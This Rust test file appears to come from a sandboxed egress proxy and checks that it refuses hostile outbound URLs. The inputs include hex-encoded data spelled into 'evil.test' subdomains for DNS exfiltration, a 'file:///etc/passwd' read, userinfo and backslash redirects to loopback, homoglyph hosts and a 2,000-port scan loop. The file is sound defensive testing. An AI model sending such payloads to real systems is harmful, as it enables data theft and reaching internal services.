//! Attack corpus D, the names: hosts, schemes and ports a guest would like to reach, and the host itself. Each row is
//! refused by its rule, and the sink inside sees nobody.

use wharf_domain::fault::Blame;
use wharf_egress::{EgressConfig, Own, Request};
use wharf_store::audit;

use crate::house::{House, get, grant, post, tenant};
use crate::partner::{Partner, answer};
use crate::siege::Siege;

#[tokio::test]
async fn p12_d1_a_host_that_was_not_granted_is_not_even_looked_up() {
    let siege = Siege::of("D1").await;
    let (granted, port) = (siege.grant("carrier.test", true), siege.sink.port);
    for host in [
        "evilcarrier.test",
        "api.carrier.test",
        "carrier.test.evil.test",
        "carrier.test.",
        "carrier-test",
        "arrier.test",
        "x.test",
    ] {
        siege.refuses_url(&granted, &format!("http://{host}:{port}/get/1"), "host-not-granted").await;
    }
    assert_eq!(siege.names.asked(), 0, "a name would carry data out");
    let wild = siege.grant("*.carrier.test", true);
    let fault = siege.refuses(&wild, get(&granted, "/get/1"), "bad-origin").await;
    assert_eq!(fault.blame, Blame::Operator, "a grant is one host");
    siege.held().await;
}

/// What a guest knows, it could spell into names and have looked up: one question to a name server is a message.
#[tokio::test]
async fn f8_a_name_that_carries_data_is_not_looked_up() {
    let siege = Siege::of("F8").await;
    let (granted, port) = (siege.grant("carrier.test", true), siege.sink.port);
    let data = "4a6f686e20446f652c20486175707473747261c39f652031";
    for host in [format!("{data}.evil.test"), format!("{data}.carrier.test"), format!("carrier.test.{data}.test")] {
        siege.refuses_url(&granted, &format!("http://{host}:{port}/get/1"), "host-not-granted").await;
        siege
            .refuses(
                &granted,
                Request { url: format!("http://{host}:{port}/void"), ..post(&granted, "", "{}") },
                "host-not-granted",
            )
            .await;
    }
    // Nor is the granted name itself, before everything else about the request is allowed.
    siege.refuses_url(&granted, "http://carrier.test:1/get/1", "port").await;
    assert_eq!(siege.names.asked(), 0);
    siege.held().await;
}

#[tokio::test]
async fn p12_d2_only_the_scheme_that_was_granted_is_spoken() {
    let siege = Siege::of("D2").await;
    let (mut granted, port) = (siege.grant("carrier.test", true), siege.sink.port);
    for scheme in ["https", "ftp", "gopher", "ws", "wss", "data", "javascript"] {
        siege.refuses_url(&granted, &format!("{scheme}://carrier.test:{port}/get/1"), "scheme").await;
    }
    for url in ["file:///etc/passwd", "file://carrier.test/get/1", "about:blank"] {
        siege.refuses_url(&granted, url, "scheme").await;
    }
    granted.origins[0].url = format!("https://carrier.test:{port}");
    siege.refuses_url(&granted, &format!("http://carrier.test:{port}/get/1"), "scheme").await;
    let mut upgrade = get(&granted, "/get/1");
    upgrade.headers.push(("Upgrade".to_owned(), "websocket".to_owned()));
    siege.refuses(&granted, upgrade, "header").await;
    siege.held().await;
}

#[tokio::test]
async fn p12_d3_only_the_port_that_was_granted_is_dialled() {
    let siege = Siege::of("D3").await;
    let mut granted = siege.grant("carrier.test", true);
    granted.origins[0].url = "http://carrier.test:9443".to_owned();
    for port in ["", ":80", ":443", ":22", &format!(":{}", siege.sink.port)] {
        siege.refuses_url(&granted, &format!("http://carrier.test{port}/get/1"), "port").await;
    }
    for port in [":99999", ":-1", ":x"] {
        siege.refuses_url(&granted, &format!("http://carrier.test{port}/get/1"), "invalid-url").await;
    }
    siege.held().await;
}

#[tokio::test]
async fn p12_d4_no_user_name_hides_where_a_request_goes() {
    let siege = Siege::of("D4").await;
    let (granted, port) = (siege.grant("carrier.test", true), siege.sink.port);
    for (url, rule) in [
        (format!("http://carrier.test:{port}@127.0.0.1:{port}/get/1"), "userinfo"),
        (format!("http://user:pass@carrier.test:{port}/get/1"), "userinfo"),
        (format!("http://@carrier.test:{port}/get/1"), "userinfo"),
        (format!("http://127.0.0.1:{port}/#@carrier.test:{port}/get/1"), "invalid-url"),
        (format!("http://127.0.0.1:{port}/get/1?@carrier.test"), "address-loopback"),
        (format!("http://carrier.test:{port}\\@127.0.0.1:{port}/get/1"), "invalid-url"),
        (format!("http:\\\\127.0.0.1:{port}/get/1"), "invalid-url"),
    ] {
        siege.refuses_url(&granted, &url, rule).await;
    }
    siege.held().await;
}

#[tokio::test]
async fn p12_d5_a_host_has_one_spelling_and_no_twin() {
    let siege = Siege::of("D5").await;
    let (granted, port) = (siege.grant("carrier.test", true), siege.sink.port);
    for (host, rule) in [
        ("carr\tier.test", "invalid-url"),
        ("carr\nier.test", "invalid-url"),
        ("carrier.test\0", "invalid-url"),
        ("carrier%00.test", "invalid-url"),
        ("carrier%2etest%2f.evil.test", "invalid-url"),
        // The first letter is Cyrillic.
        ("сarrier.test", "host-not-granted"),
        ("xn--arrier-1sf.test", "host-not-granted"),
        // A soft hyphen is nothing, and these are the granted host in other letters: they go on to the address.
        ("car\u{ad}rier.test", "address-loopback"),
        ("ｃａｒｒｉｅｒ.test", "address-loopback"),
        ("CARRIER。test", "address-loopback"),
    ] {
        let shut = siege.grant("carrier.test", false);
        siege.refuses_url(&shut, &format!("http://{host}:{port}/get/1"), rule).await;
    }
    // The operator writes a host of another script as what it is.
    let twin = siege.grant("сarrier.test", true);
    siege.refuses(&twin, get(&granted, "/get/1"), "bad-origin").await;
    siege.held().await;
}

#[tokio::test]
async fn p12_d19_the_host_does_not_call_itself() {
    // The sink is this host's own listener.
    let own = |listen| {
        move |sink: &crate::sink::Sink| EgressConfig {
            own: Own {
                listen: vec![format!("{listen}:{}", sink.port).parse().expect("address")],
                advertised: vec![format!("http://wharf.test:{}", sink.port), "https://wharf.example".to_owned()],
                mark: Some("wharf-0123456789abcdef".to_owned()),
            },
            ..EgressConfig::default()
        }
    };
    let siege = Siege::with("D19", own("0.0.0.0")).await;
    for host in ["127.0.0.1", "localhost", "[::1]", "127.3.4.5", "alias.test", "wharf.test", "WHARF.test."] {
        let granted = siege.grant(host, true);
        siege.refuses(&granted, get(&granted, "/get/1"), "self-request").await;
        assert_eq!(siege.names.asked(), u32::from(host == "alias.test" || host == "localhost"), "{host}");
    }
    let granted = grant("https://wharf.example:443");
    siege.refuses(&granted, post(&granted, "/void", "{}"), "self-request").await;
    siege.held().await;
    // Another listener of the machine is no part of the host. What goes there can be known again when it comes back.
    let partner = Partner::plays(vec![answer(200, "{}")]).await;
    siege.send(&grant(&partner.url), get(&grant(&partner.url), "/get/1")).await.expect("next door");
    assert_eq!(partner.seen()[0].header("via"), Some("1.1 wharf-0123456789abcdef"));

    let inner = Siege::with("D19", own("127.0.0.1")).await;
    let granted = inner.grant("alias.test", true);
    inner.refuses(&granted, get(&granted, "/get/1"), "self-request").await;
    inner.held().await;
}

#[tokio::test]
async fn p12_d21_a_grant_is_no_place_to_scan_from() {
    let siege = Siege::of("D21").await;
    let granted = siege.grant("carrier.test", true);
    for port in (1..=2_000).filter(|port| *port != siege.sink.port) {
        siege.refuses_url(&granted, &format!("http://carrier.test:{port}/get/1"), "port").await;
        siege.refuses_url(&granted, &format!("http://h{port}.carrier.test/get/1"), "host-not-granted").await;
    }
    for wild in ["*", "*.test", "*.carrier.test", "api.*.test"] {
        siege.refuses(&siege.grant(wild, true), get(&granted, "/get/1"), "bad-origin").await;
    }
    assert_eq!(siege.names.asked(), 0);
    siege.held().await;
}

/// Granted or not: a connection has one place, and whoever asks for many is looking for something.
#[tokio::test]
async fn d21_whoever_tries_one_place_after_the_other_is_in_the_audit_once_an_hour() {
    let house = House::new().await;
    let (granted, job) = (grant("https://api.example"), house.job().await);
    let ask = async |from: u32, to: u32| {
        for number in from..to {
            let mut request = get(&granted, "/get/1");
            // As many spellings of a place are one place.
            request.url = format!("https://{}{number}.example/get/1", if number % 2 == 0 { "H" } else { "h" });
            let fault = house.send(&granted, &house.ctx(&job), request).await.expect_err("not granted");
            assert_eq!(fault.code, "egress.host-not-granted");
        }
        let rows = audit::for_object(&house.db, &tenant(), "connection/acme").await.expect("audit");
        let told = rows.into_iter().filter(|row| row.action == "egress.scan");
        told.map(|row| row.detail["places"].as_u64().expect("a number")).collect::<Vec<_>>()
    };
    assert_eq!(ask(0, 20).await, [] as [u64; 0]);
    assert_eq!(ask(0, 20).await, [] as [u64; 0], "the same ones again");
    assert_eq!(ask(20, 90).await, [21], "once, however many follow");
    house.clock.advance(3_599_999);
    assert_eq!(ask(100, 130).await, [21]);
    house.clock.advance(1);
    assert_eq!(ask(130, 131).await, [21, 31]);
}
